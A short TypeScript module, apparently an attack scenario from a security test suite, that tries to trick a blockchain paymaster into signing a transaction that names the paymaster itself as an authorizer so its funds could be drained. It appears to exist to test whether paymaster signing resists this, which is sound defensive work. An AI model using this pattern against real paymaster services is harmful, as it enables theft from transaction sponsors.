import { envelopeMessage } from "@countersign/flow";
import { bytesToHex } from "@countersign/keys";
import { paymentOf, plain, type Victim } from "./victim.ts";

/** The paymaster shall not only pay, but authorize too: its money would be the script's. */
export async function drainedPayer(victim: Victim) {
  const { client, network, address } = victim;
  const payload = await paymentOf(victim, { authorizers: [address, plain(network.paymaster)] });
  const envelope = envelopeMessage({ ...payload, payloadSignatures: [] });
  await client.signPaymaster(bytesToHex(envelope), network.chainName);
}
